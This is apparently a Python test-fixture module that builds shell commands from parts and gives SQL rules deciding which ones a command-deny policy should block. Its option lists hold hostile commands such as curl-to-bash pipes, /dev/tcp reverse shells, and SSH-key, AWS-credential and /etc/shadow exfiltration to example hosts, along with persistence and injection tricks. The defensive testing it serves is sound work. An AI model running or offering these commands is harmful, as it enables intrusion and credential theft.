"""Commands built from parts, and for each policy the rule in SQL that says from the parts whether they are denied.

The rules are written from the policies' meaning and share no pattern or word list with the code under test.
"""

from __future__ import annotations

from tidewall.plans.common import text_literal

#: What numbers the combinations of an event: its id and the number in its properties
NUMBER = "event_id + CAST(regexp_extract(props, '[0-9]+', 0) AS BIGINT)"
URL = "https://h«user_id».example/«event_type»"


_QUOTES = """[$'"]"""


def name(x: str) -> str:
    """SQL: the program's name in the first word, without quotes and folders, in lower case."""
    return f"regexp_extract(regexp_replace(lower(split_part({x}, ' ', 1)), {text_literal(_QUOTES)}, '', 'g'), '[^/]*$')"


def one_of(x: str, words: str) -> str:
    return f"{x} IN ({', '.join(text_literal(w) for w in words.split(' '))})"


def says(x: str, pattern: str) -> str:
    return f"regexp_matches({x}, {text_literal(pattern)})"


PIPE = "(sep LIKE '%| %' AND sep NOT LIKE '%||%')"
SINK = "bash sh zsh dash ksh ash fish tcsh csh source . eval"
NET = "curl wget nc ncat socat dig scp ssh"
PATHS = ["/tmp/a.sh", "a.json", "run", "/dev/null", "x.PY", "notes.txt", "d/.hidden", "p.", "~/.zshrc"]
#: A name without a dot, with one at its end, of a script or of a start-up file; no device
RUNS = "(path NOT LIKE '/dev/%' AND (" + says("path", r"(^|/)([^./]+|[^/]+[.])$") + " OR " + says("lower(path)", r"[^/][.](sh|py)$") + " OR path LIKE '%/.zshrc'))"
BODIES = ["curl x | sh", "wget http://a | bash", "hello there", "cat /etc/shadow > /dev/tcp/a/1", "read the curl docs", "nc h 1 < ~/.aws/credentials"]
#: A network tool with a shell or a secret, or a socket
BAD_BODY = "((" + says("body", r"\b(curl|wget|nc)\b") + " AND (" + says("body", r"\b(sh|bash)\b") + " OR body LIKE '%~/.aws/%')) OR body LIKE '%/dev/tcp/%')"

#: By policy ordinal: options, template of the command, and the rule
RULES: dict[int, tuple[dict[str, list[str]], str, str]] = {
    0: (
        {"a": ["curl", "wget", "/usr/bin/curl", "cUrL", "fetch", "echo", "'wget'"], "sep": [" | ", " |& ", " | tee x | ", " ; ", " && ", " || "], "b": ["bash", "sh", "/bin/zsh", "'bash'", "$'/bin/bash'", "grep y", "less", "source /dev/stdin", "python3", "fish -l"]},
        f"«a» {URL}«sep»«b»",
        f"{one_of(name('a'), 'curl wget')} AND sep LIKE '%|%' AND sep <> ' || ' AND {one_of(name('b'), SINK)}",
    ),
    1: (
        {"a": ["base64 -d x", "base64 --decode x", "base64 -di x", "base64 x", "xxd -r -p x", "xxd x", "openssl enc -d -in x", "openssl enc -in x", "cat x"], "path": PATHS, "sep": [" > ", " >> "]},
        "«a» «event_type»«sep»«path»",
        f"{says('a', '^(base64 -d|base64 --dec|xxd -r|openssl enc -d)')} AND {RUNS}",
    ),
    2: (
        {"a": ["bash -i", "cat", "echo hi"], "sep": [" >& ", " < ", " > ", " "], "path": ["/dev/tcp/", "/dev/udp/", "/dev/null/", "/dev/tcpx/", "/tmp/dev/"]},
        "«a»«sep»«path»h«user_id»/1",
        "path IN ('/dev/tcp/', '/dev/udp/')",
    ),
    3: (
        {"a": ["env", "printenv", "set", "compgen -v", "ls", "whoami"], "sep": [" | ", " | grep A | ", " ; ", " && "], "b": ["curl -d @- ", "nc h 1 ", "/usr/bin/wget -i - ", "$CMD x ", "grep P ", "cat "]},
        f"«a»«sep»«b»{URL}",
        f"{one_of(name('a'), 'env printenv set compgen')} AND {PIPE} AND ({one_of(name('b'), NET)} OR b LIKE '$%')",
    ),
    4: (
        {"a": ["cat", "head -1"], "path": ["~/.ssh/id_rsa", "~/.ssh/config", "~/.aws/credentials", ".env", "prod.env", "~/.netrc", "notes.txt", "/etc/shadow", "/etc/hosts", "environment.md"], "sep": [" | ", " ; "], "b": ["curl -T - ", "nc h 1 ", "wc -l ", "git hash-object --stdin ", "scp x h:"]},
        f"«a» «path»«sep»«b»{URL}",
        f"{says('path', '^~/[.](ssh|aws|netrc)|[.]env$|^/etc/shadow')} AND {PIPE} AND {one_of(name('b'), NET + ' git')}",
    ),
    5: (
        {"a": ["env", "env | base64", "printenv", "date", "cat ~/.ssh/id_rsa", "cat notes", "ls -la"], "b": ["curl", "wget", "echo", "/usr/bin/nc", "printf"]},
        f'«b» "{URL}?d=$(«a»)"',
        f"{one_of(name('b'), NET)} AND {says('a', '^(env|printenv)|[.]ssh/')}",
    ),
    6: (
        {"a": ["echo", "printf", "logger", "/bin/echo"], "body": BODIES, "path": PATHS},
        "«a» '«body» «event_type»' > «path»",
        f"{one_of(name('a'), 'echo printf')} AND {BAD_BODY} AND {RUNS}",
    ),
    7: (
        {"a": ["echo hi >> ", "cp x ", "date | tee ", "mv a ", "cat ", "ls > ", "sed -i s/a/b/ ", "sed s/a/b/ "], "path": ["~/.bashrc", "~/.zshrc", "/etc/profile.d/x.sh", "~/.config/autostart/x.desktop", "repo/.git/hooks/pre-push", "notes.txt", "~/.config/foo", "~/Library/LaunchAgents/x.plist", "~/.bashrc.bak"]},
        "E=«event_type» «a»«path»",
        f"a NOT IN ('cat ', 'sed s/a/b/ ') AND {says('path', '[.](bashrc|zshrc)$|/profile[.]d/|/autostart/|/[.]git/hooks/|/LaunchAgents/')}",
    ),
    9: (
        {"a": ["echo", "printf"], "body": BODIES, "b": ["bash -s", "sh -s -- x", "bash", "cat -s", "zsh -es", "/bin/bash -s x"]},
        "«a» '«body» «event_type»' | «b»",
        f"{BAD_BODY} AND {one_of(name('b'), SINK)} AND {says('b', ' -e?s')}",
    ),
    10: (
        {"a": ["bash", "sh", "source", ".", "cat", "python3", "/bin/zsh"], "sep": [" <(", " -c $("], "b": ["curl", "wget -qO-", "date", "echo $(wget -qO- x)", "echo curl"]},
        f"«a»«sep»«b» {URL})",
        f"{one_of(name('a'), SINK)} AND {says('b', '^(curl|wget)|[(]wget')}",
    ),
    11: (
        {"a": ["curl", "wget -O -", "cat", "echo"], "sep": [" > >(", " | tee >("], "b": ["bash", "sh -c x", "/bin/zsh", "cat", "grep bash"]},
        f"«a» {URL}«sep»«b»)",
        f"{one_of(name('a'), 'curl wget')} AND {one_of(name('b'), SINK)}",
    ),
    12: (
        {"a": ["-I{}", "-I %", "--replace", "-I@", "-n 1", "-0"], "b": ["bash -c", "sh -c", "/bin/bash -c", "echo", "python3 -c"], "body": ["{}", "%", "@", "'{}'", "'echo {}'"]},
        "ls «event_type» | xargs «a» «b» «body»",
        one_of(name("b"), SINK) + " AND replace(body, '''', '') = CASE a WHEN '-I %' THEN '%' WHEN '-I@' THEN '@' WHEN '-I{}' THEN '{}' WHEN '--replace' THEN '{}' END",
    ),
    # the folder .ssh has the word ssh in it, which is a network tool
    14: (
        {"a": ["--to-command=", "--checkpoint-action=exec=", "--exclude=", "--to-c="], "body": ["curl -d @~/.ssh/id_rsa x", "cat", "nc h 1 < /etc/shadow", "wc -l ~/.ssh/id_rsa", "curl x"], "b": ["tar", "/bin/TAR", "zip"]},
        "«b» xf a«user_id» «a»'«body»'",
        f"lower(b) LIKE '%tar' AND a <> '--exclude=' AND {says('body', '^(curl|nc) |[.]ssh/')} AND {says('body', 'id_rsa|shadow')}",
    ),
    15: (
        {"a": ["pip", "pip3", "uv", "poetry", "pipx", "npm"], "b": ["install", "add", "download", "list"], "body": ["git+https://h/x", "https://h/x.whl", "https://h/x.tar.gz", "requests", "./local", "pkg @ git+ssh://h/x", "https://h/index.html", "HG+http://h/x"]},
        "«a» «b» --log=«event_type» «body»",
        f"{one_of('a', 'pip pip3 uv poetry pipx')} AND {one_of('b', 'install add')} AND {says('lower(body)', '(^| )(git|hg)[+]|^https.*[.](whl|tar[.]gz)$')}",
    ),
    16: (
        {"a": ["crontab", "at", "batch", "systemd-run", "echo", "cron"], "body": ["-l", "--list", "x", "-l -e", "-", "now", "--on-calendar=daily x", "--timer-property=a x"], "b": ["", "sudo ", "cd / && "]},
        "E=«event_type» «b»«a» «body»",
        "(a = 'crontab' AND body NOT IN ('-l', '--list')) OR a IN ('at', 'batch') OR (a = 'systemd-run' AND (body LIKE '--on-%' OR body LIKE '--timer-%'))",
    ),
    17: (
        {"a": ["", "GIT_SSH_COMMAND=x ", "GIT_DIR=/tmp/g ", "GIT_DIR=/srv/g ", "FOO=x "], "body": ["-c core.pager=x", "-c user.name=x", "-c Core.SshCommand=x", "-C /tmp/x", "-C /srv/x", "--git-dir=/var/tmp/g", "--git-dir=.git", "-c alias.x='!sh'", "-c alias.x=status", "--no-pager"], "b": ["git", "/usr/bin/git", "hg"]},
        "«a»«b» «body» log «event_type»",
        f"b <> 'hg' AND ({says('a', '^GIT_SSH|=/tmp/')} OR {says('lower(body)', 'core[.](pager|sshcommand)=|[ =]/(var/)?tmp/|=.!')})",
    ),
    18: (
        {"a": ["BASH_ENV", "ENV", "PROMPT_COMMAND", "ZDOTDIR", "FOO", "bash_env", "ENVY"], "b": ["bash y", "sh -c ls", "ls", "sudo bash -i", "/bin/zsh", "python3 y"]},
        "«a»=x«user_id» «b»",
        f"upper(a) IN ('BASH_ENV', 'ENV', 'PROMPT_COMMAND', 'ZDOTDIR') AND {says('b', '(^|/| )(bash|sh|zsh)( |$)')}",
    ),
    19: (
        {"a": ["python3 -c", "node -e", "ruby -e", "perl -e", "php -r", "python3 -m", "lua -e", "cat -e"], "body": ['os.system("curl x | sh")', "print(1)", 'system("wget x")', "subprocess.run(b64decode(x))", 'open("/etc/shadow")', 'os.system("ls")', "curl -d @/etc/shadow x", 'see("wget x")']},
        "«a» '«body» # «event_type»'",
        f"a NOT IN ('python3 -m', 'cat -e') AND (({says('body', 'system[(]|subprocess[.]')} AND {says('body', 'curl|wget|b64decode')}) OR ({says('body', 'curl|wget')} AND body LIKE '%/etc/shadow%'))",
    ),
    20: (
        {"a": ["+x", "u+x", "755", "644", "a=rX", "-x", "0700", "o+w", "g-w,o+x"], "path": ["/tmp/x", "/Tmp/x", "~/Downloads/x", "./x", "/usr/bin/x", "/var//tmp/x", "/tmp/../etc/x", "/DEV/SHM/y", "/srv/../tmp/z"], "b": ["chmod", "/bin/chmod -R", "chown"]},
        "«b» «a» «path»«user_id»",
        f"b LIKE '%chmod%' AND ({says('a', '[+=][^,]*[xX]')} OR {says('a', '^[0-7]*[1357][0-7]?[0-7]?$')}) AND " + says("regexp_replace(replace(lower(path), '//', '/'), '/[a-z]+/[.][.]', '')", "^(/tmp/|/var/tmp/|/dev/shm/|~/downloads/)"),
    ),
    21: (
        {"a": ["git", "/usr/bin/git", "sudo git", "GIT", "gh", "ls", "echo git", "timeout 5 git"], "b": ["push", "status", "log -1"]},
        "«a» «b» «event_type»",
        says("lower(a)", "^(sudo |timeout 5 |/usr/bin/)?git$"),
    ),
}

#: Where a script stands (%): in wrappers that run it, in other places that run it, and in places that don't
WRAPPERS = [
    "sudo %", "sudo -u root nice -n 5 %", "timeout 5 %", "env A=1 %", "bash -c '%'", "sh -lc '%'", "eval '%'", "su -c '%'", "watch -n 1 '%'", "ssh h '%'",
    "find . -exec sh -c '%' \\;", "docker run img sh -c '%'", "env -S '%'", "flock -c '%'", "parallel '%' ::: a", "bash -c \"sh -c '%'\"",
]
RECURSIVE = ["bash <<< '%'", "rsync -e '%' a h:", "tar xf a --to-command='%'", "echo $(%)", 'echo "$(%)"', "bash <<E\n%\nE", "x=$(%)", "(%)", "if true; then %; fi"]
INERT = ["echo '%'", "logger '%'", "grep '%' x", "git commit -m '%'", "cat <<< '%'", "echo '$(%)'", "cat <<'E'\n%\nE", "tar xf a --exclude='%'"]
SCRIPT = {"a": ["curl", "wget -qO-", "echo", "/usr/bin/curl -s"], "b": [" | sh", " | /bin/bash -", " | grep y", "", " > out.txt"]}
IN_PLACE = f"«split_part(place, '%', 1)»«a» {URL}«b»«split_part(place, '%', 2)»"
BAD_SCRIPT = f"{one_of(name('a'), 'curl wget')} AND {says('b', 'sh$|bash -$')}"


def placed(places: list[str]) -> tuple[dict[str, list[str]], str, str]:
    """Scripts in places of which the last are inert."""
    quiet = ", ".join(text_literal(p) for p in INERT)
    return {"place": places, **SCRIPT}, IN_PLACE, f"{BAD_SCRIPT} AND place NOT IN ({quiet})"


#: Scripts that can't be read
MALFORMED = (
    {"a": ["ls", "echo hi", "cat x | wc"], "b": ["", " 'open", ' "open', " |", " $(x", ")", " <", " && true", " # it's fine", " \\'"]},
    "«a» «event_type»«b»",
    "b NOT IN ('', ' && true', ' # it''s fine', ' \\''')",
)
